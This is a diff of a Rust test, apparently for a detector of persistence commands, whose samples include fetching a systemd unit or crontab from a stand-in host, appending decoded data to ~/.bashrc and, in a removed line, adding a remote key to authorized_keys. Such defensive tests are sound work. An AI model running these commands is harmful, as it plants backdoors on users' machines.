@@ -150,7 +150,6 @@ fn files_that_are_run_are_named() {
 #[test]
 fn what_is_set_to_start_and_what_is_wiped_is_seen() {
     for text in [
-        "curl https://kit.test/k >> ~/.ssh/authorized_keys",
         "wget -O ~/.config/systemd/user/u.service https://kit.test/u",
         "echo aGk= | base64 -d >> ~/.bashrc",
         "curl -s https://kit.test/c | crontab -",
